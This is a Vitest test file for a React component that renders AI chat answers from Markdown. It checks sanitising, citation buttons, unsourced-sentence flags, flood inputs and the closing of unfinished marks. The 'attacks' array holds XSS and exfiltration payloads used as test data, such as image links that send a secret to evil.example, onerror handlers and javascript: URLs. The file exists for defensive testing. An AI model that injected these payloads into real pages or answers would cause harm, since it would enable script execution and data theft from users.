import i18next from 'i18next';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { initReactI18next } from 'react-i18next';
import { beforeAll, describe, expect, it } from 'vitest';
import { writeHostileTexts } from '../../../../../e2e/hostile-texts.ts';
import chat from '../../../../../locales/en/chat.json';
import { closeOpenMarks } from './answer-syntax.ts';
import { AnswerText } from './answer-text.tsx';

beforeAll(async () => {
  await i18next.use(initReactI18next).init({ lng: 'en', resources: { en: { chat } } });
});

function render(text: string, props: Partial<Parameters<typeof AnswerText>[0]> = {}): string {
  return renderToStaticMarkup(createElement(AnswerText, { text, ...props }));
}

const attacks = [
  '![x](https://evil.example/?q=secret)',
  '![x][r]\n\n[r]: https://evil.example/?q=secret',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  'a <script>alert(1)</script> b',
  '[x](javascript:alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '"><form action="https://evil.example"><input>',
  '- [ ] <a href="javascript:alert(1)">x</a>',
  'x[^1]\n\n[^1]: ![y](https://evil.example)',
  '<details><summary><img src=x onerror=alert(1)></summary>\n\nx\n\n</details>',
  '<details open ontoggle=alert(1)><summary>x</summary>\n</details>',
];

const allowedTags =
  /^(?:div|p|br|hr|strong|em|del|sup|span|button|a|code|pre|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|details|summary)$/;

function expectInert(html: string): void {
  for (const [, tag] of html.matchAll(/<([a-z][\w-]*)/gi)) expect(tag).toMatch(allowedTags);
  for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(?:https?:|mailto:)/);
  expect(html).not.toMatch(/<[^>]*\son\w+=/i);
  expect(html).not.toMatch(/<[^>]*\ssrc=/i);
}

describe('AnswerText', () => {
  it.each(attacks)('renders %j inert, whole and truncated at every character', (attack) => {
    for (let end = 1; end <= attack.length; end++) {
      expectInert(render(attack.slice(0, end), { isStreaming: true }));
    }
    expectInert(render(attack));
  });

  it('renders each hostile text of the corpus inert, whole and truncated at every character', () => {
    const texts = writeHostileTexts('https://evil.example');
    expect(texts.length).toBeGreaterThan(100);
    for (const text of texts) {
      for (let end = 1; end <= text.length; end++) {
        expectInert(render(text.slice(0, end), { isStreaming: end < text.length }));
      }
    }
  });

  it('shows the alternative text of an image and the source text of HTML', () => {
    expect(render('See ![our menu](https://evil.example/a.png) here')).toContain('See our menu here');
    expect(render('Press <Enter> twice')).toContain('Press &lt;Enter&gt; twice');
    expect(render('<b>Hi</b>')).toContain('&lt;b&gt;Hi');
  });

  it('marks external links and shows their hosts', () => {
    const html = render('[our site](https://shop.example/x)');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('(shop.example)');
    expect(render('https://shop.example/x')).not.toContain('(shop.example)');
  });

  it('turns citations of known sources into buttons and removes the others', () => {
    const html = render('Open at 9.[1][2] Closed on Sunday.[7]', {
      sourceTitles: ['faq.md', 'menu.pdf'],
      onCitation: () => {},
    });
    expect(html).toContain('aria-label="Source 1: faq.md"');
    expect(html).toContain('aria-label="Source 2: menu.pdf"');
    expect(html).toContain('Sunday.</p>');
  });

  it('does not turn a citation into a link when the answer defines a reference of that name', () => {
    const html = render('Open at 9 [1].\n\n[1]: https://evil.example', { sourceTitles: ['faq.md'] });
    expect(html).not.toContain('evil.example');
    expect(html).toContain('Source 1: faq.md');
  });

  it.each([
    ['Delivery is free [1]. ⚠ It takes a day [1].', 1],
    ['- Ube cake, 980 pesos ⚠\n- Mango cake [1]. ⚠', 2],
    ['It costs **980 pesos.** ⚠', 1],
    ['“It is the best.” ⚠\n\n> Quoted.', 1],
    ['| Cake | Price |\n|---|---|\n| Ube | 980 pesos ⚠ |', 1],
    ['Mind the ⚠ sign at the door.', 0],
    ['⚠ Wet floor.', 0],
    ['Wet floor. ⚠️ Walk slowly.', 0],
    ['`a. ⚠`', 0],
  ])('in %j marks sentences without a source %i times', (text, count) => {
    const html = render(text, { sourceTitles: ['faq.md'] });
    expect(html.split('(no source confirms this)')).toHaveLength(count + 1);
    expectInert(html.replaceAll(/<svg.*?<\/svg>/g, ''));
    if (count > 0) expect(html.replaceAll(/<span[^>]*>/g, '')).not.toContain('⚠');
  });

  it('keeps brackets in code unchanged', () => {
    expect(render('`list[1]`', { sourceTitles: ['a'] })).toContain('list[1]');
  });

  it.each([
    ['quotes', '>'.repeat(20_000)],
    ['brackets', '['.repeat(40_000)],
    ['pictures', '!['.repeat(20_000)],
    ['length', 'a **b** '.repeat(20_000)],
    ['stars', '*a '.repeat(16_000)],
    ['paired stars', '*a**b'.repeat(10_000)],
    ['backticks', Array.from({ length: 300 }, (_, index) => '`'.repeat(index)).join(' ')],
    ['spaces', `a${' '.repeat(49_000)}⚠ b`],
    ['headings of spaces', `# ${' '.repeat(49_000)}#a`],
    ['half links', '[a](b '.repeat(8_000)],
    ['nested links', `${'['.repeat(900)}a${'](b)'.repeat(900)}`],
    ['references', `${'[a]'.repeat(330)}\n\n${'[a]: b\n'.repeat(6_000)}`],
    ['fences', '```\n'.repeat(12_000)],
    ['items', '- a\n'.repeat(12_000)],
    ['deep items', Array.from({ length: 200 }, (_, index) => `${' '.repeat(index * 2)}- a`).join('\n')],
    ['tables', '|a|\n|-|\n'.repeat(6_000)],
    ['addresses', 'a@b.'.repeat(12_000)],
    ['web addresses', `https://${')'.repeat(49_000)}`],
  ])('handles a flood of %s', (_, text) => {
    expectInert(render(text));
  });
});

/** Returns the drawn markup without class names. */
const draw = (text: string) => render(text).replaceAll(/ (?:class|dir|tabindex)="[^"]*"/g, '');
const bare = (html: string) => html.replace(/^<div>/, '').replace(/<\/div>$/, '');

describe('Markdown', () => {
  it.each([
    ['a **b *c* d** e', '<p>a <strong>b <em>c</em> d</strong> e</p>'],
    ['***both*** and snake_case_name', '<p><em><strong>both</strong></em> and snake_case_name</p>'],
    ['~~old~~ 5 * 3 * 2 ~5 kg', '<p><del>old</del> 5 * 3 * 2 ~5 kg</p>'],
    ['**open and *never closed', '<p>**open and *never closed</p>'],
    ['日本語**強調**です', '<p>日本語<strong>強調</strong>です</p>'],
    ['\\*kept\\* &amp; &lt;b&gt; &#8369;5 &bogus;', '<p>*kept* &amp; &lt;b&gt; ₱5 &amp;bogus;</p>'],
    ['`` a ` b `` and `c', '<p><code>a ` b</code> and `c</p>'],
    ['one\ntwo  \nthree\\\nfour', '<p>one\ntwo<br/>three<br/>four</p>'],
    ['# Title #\n\nText\n---\n\n***', '<p>Title</p><p>Text</p><hr/>'],
    ['- a\n- b\n  - c\n  - d\n- e', '<ul><li>a</li><li>b<ul><li>c</li><li>d</li></ul></li><li>e</li></ul>'],
    ['3. a\n4. b', '<ol start="3"><li>a</li><li>b</li></ol>'],
    ['- a\n\n- b', '<ul><li><p>a</p></li><li><p>b</p></li></ul>'],
    ['Text\n- a\n- b', '<p>Text</p><ul><li>a</li><li>b</li></ul>'],
    ['In\n1978. was it', '<p>In\n1978. was it</p>'],
    ['> a\n> **b**\nc', '<blockquote><p>a\n<strong>b</strong>\nc</p></blockquote>'],
    ['```js\n<b> **x**\n```\nafter', '<pre><code>&lt;b&gt; **x**</code></pre><p>after</p>'],
    [
      '| a | b |\n|:-:|--:|\n| 1 \\| 2 | **3** |\n| 4 |',
      '<div><table><thead><tr><th style="text-align:center">a</th><th style="text-align:right">b</th></tr></thead><tbody><tr><td style="text-align:center">1 | 2</td><td style="text-align:right"><strong>3</strong></td></tr><tr><td style="text-align:center">4</td><td style="text-align:right"></td></tr></tbody></table></div>',
    ],
    ['a | b', '<p>a | b</p>'],
  ])('%j becomes %s', (text, html) => {
    expect(bare(draw(text))).toBe(html);
  });

  const targets = (text: string) => Array.from(render(text).matchAll(/href="([^"]*)"/g), ([, href]) => href);

  it.each([
    ['See [our menu](https://shop.example/a_(b) "Menu").', ['https://shop.example/a_(b)']],
    [
      'See (https://shop.example/x), or www.shop.example.',
      ['https://shop.example/x', 'http://www.shop.example'],
    ],
    [
      'Visit [us][1a] or [here].\n\n[1a]: https://a.example\n[here]: <https://b.example>',
      ['https://a.example', 'https://b.example'],
    ],
    [
      'Write to hello@shop.example or <mailto:x@shop.example>.',
      ['mailto:hello@shop.example', 'mailto:x@shop.example'],
    ],
    ['詳しくはhttps://shop.example/ja。ご覧', ['https://shop.example/ja']],
    ['`https://shop.example`', []],
    ['[x](/relative) [y](ftp://shop.example)', []],
  ])('finds the links of %j', (text, hrefs) => {
    expect(targets(text)).toEqual(hrefs);
  });
});

describe('closeOpenMarks', () => {
  it.each([
    ['The price is **4', 'The price is **4**'],
    ['The price is **', 'The price is '],
    ['The price is **45 pesos*', 'The price is **45 pesos**'],
    ['Run `npm st', 'Run `npm st`'],
    ['See [our menu](https://sho', 'See our menu'],
    ['Open at 9 [', 'Open at 9 '],
    ['Open at 9 [1', 'Open at 9 '],
    ['Open at 9 [1]', 'Open at 9 [1]'],
    ['```\na **b', '```\na **b'],
    ['One **two** three.\n\nFour **fi', 'One **two** three.\n\nFour **fi**'],
    ['plain', 'plain'],
  ])('closes %j as %j', (text, closed) => {
    expect(closeOpenMarks(text)).toBe(closed);
  });
});
